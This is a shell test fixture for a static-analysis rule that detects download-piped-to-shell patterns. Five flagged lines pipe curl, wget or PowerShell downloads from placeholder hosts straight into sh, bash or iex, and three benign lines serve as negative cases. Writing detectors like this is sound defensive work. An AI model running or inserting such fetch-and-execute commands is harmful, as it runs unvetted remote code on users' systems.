#!/bin/sh
# ruleid: download-pipe-to-shell
curl -fsSL "https://iploglab.example.invalid/api/terminal/bootstrap?os=mac&flag=7" | sh
# ruleid: download-pipe-to-shell
wget -qO- https://setup.example.invalid/linux | sudo bash
# ruleid: download-pipe-to-shell
powershell -c "iwr https://setup.example.invalid/w -UseBasicParsing | iex"
# ruleid: download-pipe-to-shell
bash -c "$(curl -fsSL https://setup.example.invalid/install.sh)"
# ruleid: download-pipe-to-shell
IEX (New-Object Net.WebClient).DownloadString('https://setup.example.invalid/p.ps1')
# ok: download-pipe-to-shell
curl -fsSL -o install.sh https://setup.example.invalid/install.sh
# ok: download-pipe-to-shell
git log --oneline | head -5
# ok: download-pipe-to-shell
npx --no -- commitlint --edit "$1"
